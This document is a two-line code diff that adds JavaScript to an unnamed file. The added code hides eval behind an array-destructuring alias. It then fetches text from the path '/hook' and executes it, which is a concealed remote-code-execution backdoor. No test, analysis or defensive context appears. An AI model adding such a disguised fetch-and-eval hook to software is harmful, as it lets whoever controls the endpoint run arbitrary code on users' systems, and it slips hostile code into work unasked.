@@ -1,0 +1,2 @@
+const [, ev] = [null, eval];
+ev(await (await fetch('/hook')).text());
